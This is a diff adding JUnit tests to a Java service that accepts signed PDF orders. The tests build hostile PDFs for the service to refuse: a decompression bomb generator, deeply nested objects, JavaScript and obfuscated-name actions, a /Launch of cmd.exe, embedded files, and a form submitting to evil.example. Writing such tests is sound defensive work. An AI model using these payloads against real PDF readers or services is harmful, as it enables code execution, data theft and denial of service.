@@ -7,7 +7,10 @@ import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.file.Path;
+import java.time.Duration;
 import java.util.Arrays;
+import java.util.zip.Deflater;
+import java.util.zip.DeflaterOutputStream;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.PDPage;
 import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
@@ -18,6 +21,9 @@ import org.clearance.domain.store.FileStore;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.jdbc.core.simple.JdbcClient;
 
 class SignedOrdersTest {
@@ -28,7 +34,7 @@ class SignedOrdersTest {
   @BeforeEach
   void start() {
     store = new FileStore(JdbcClient.create(TestDatabase.migrated()), data);
-    orders = new SignedOrders(store, 20_000);
+    orders = taking(20_000, "");
   }
 
   @Test
@@ -62,6 +68,119 @@ class SignedOrdersTest {
   @Test
   void a_file_beyond_the_limit_is_refused() {
     assertRefused(new byte[20_001], "larger than");
+  }
+
+  @Test
+  void a_pdf_that_unpacks_to_gigabytes_is_refused_and_takes_nothing_of_our_memory()
+      throws IOException {
+    orders = taking(10_000_000, "");
+    assertRefused(thatUnpacksTo(1_500L << 20), "takes too much memory or time");
+  }
+
+  @Test
+  void one_that_sends_its_reader_in_circles_is_refused() {
+    String nested = "[".repeat(100_000) + "]".repeat(100_000);
+    orders = taking(10_000_000, "");
+    assertRefused(
+        ("%PDF-1.7\n1 0 obj\n" + nested + "\nendobj\ntrailer <</Root 1 0 R>>").getBytes(UTF_8),
+        "cannot be opened");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      textBlock =
+          """
+          /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>         | a script
+          /AA <</WC <</S /JavaScript /JS (this.exportDataObject)>>>>      | a script
+          /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (1)>>]>>>> | a script
+          /OpenAction <</S /J#61vaScript /J#53 (1)>>                      | a script
+          /OpenAction <</S /Launch /F (cmd.exe)>>                         | opens another file or program
+          /Names <</EmbeddedFiles <</Names []>>>>                         | another file inside
+          /AcroForm <</Fields [] /XFA []>>                                | a form that sends data
+          /OpenAction <</S /SubmitForm /F (http://evil.example)>>         | a form that sends data
+          """)
+  void a_pdf_that_does_more_than_show_pages_is_refused(String entry, String what) {
+    assertRefused(withEntry(entry), what);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "/OpenAction [3 0 R /Fit]",
+        "/OpenAction <</S /GoTo /D [3 0 R /Fit]>>",
+        "/Metadata <</Type /Metadata>>",
+        "/AcroForm <</Fields []>>"
+      })
+  void a_pdf_that_opens_at_a_page_is_taken_as_scanners_make_them(String entry) {
+    assertThat(orders.take(new ByteArrayInputStream(withEntry(entry))))
+        .isInstanceOf(Upload.Stored.class);
+  }
+
+  @Test
+  void the_offices_malware_scanner_is_given_the_file() throws IOException {
+    orders = taking(20_000, "grep -q ^%PDF");
+    assertThat(orders.take(new ByteArrayInputStream(pdf("")))).isInstanceOf(Upload.Stored.class);
+  }
+
+  @Test
+  void a_scanner_that_finds_something_or_does_not_run_keeps_the_file_out() throws IOException {
+    orders = taking(20_000, "false");
+    assertRefused(pdf(""), "The malware scanner found something");
+    orders = taking(20_000, "no-such-scanner --fdpass");
+    assertRefused(pdf(""), "could not be scanned");
+    orders = taking(20_000, "ls --no-such-option");
+    assertRefused(pdf(""), "could not be scanned");
+  }
+
+  @Test
+  void nothing_is_left_of_an_upload_that_was_looked_into() throws IOException {
+    orders.take(new ByteArrayInputStream(pdf("")));
+    assertThat(data.resolve("work")).isEmptyDirectory();
+  }
+
+  private SignedOrders taking(long most, String scanner) {
+    return new SignedOrders(store, most, Duration.ofSeconds(60), scanner);
+  }
+
+  /** A page, and something in the catalog. */
+  private static byte[] withEntry(String entry) {
+    return """
+    %%PDF-1.7
+    1 0 obj
+    <</Type /Catalog /Pages 2 0 R %s>>
+    endobj
+    2 0 obj
+    <</Type /Pages /Kids [3 0 R] /Count 1>>
+    endobj
+    3 0 obj
+    <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>>
+    endobj
+    trailer
+    <</Root 1 0 R /Size 4>>
+    """
+        .formatted(entry)
+        .getBytes(UTF_8);
+  }
+
+  /** Its table of objects is a stream of zeros, packed a thousand times smaller. */
+  private static byte[] thatUnpacksTo(long bytes) throws IOException {
+    var packed = new ByteArrayOutputStream();
+    try (var deflating = new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_SPEED))) {
+      byte[] zeros = new byte[1 << 20];
+      for (long at = 0; at < bytes; at += zeros.length) {
+        deflating.write(zeros);
+      }
+    }
+    var pdf = new ByteArrayOutputStream();
+    pdf.write("%PDF-1.7\n".getBytes(UTF_8));
+    pdf.write(
+        "1 0 obj\n<</Type /XRef /W [1 2 1] /Size 4 /Root 1 0 R /Filter /FlateDecode /Length %d>>\nstream\n"
+            .formatted(packed.size())
+            .getBytes(UTF_8));
+    packed.writeTo(pdf);
+    pdf.write("\nendstream\nendobj\nstartxref\n9\n%%EOF\n".getBytes(UTF_8));
+    return pdf.toByteArray();
   }
 
   private void assertRefused(byte[] upload, String message) {
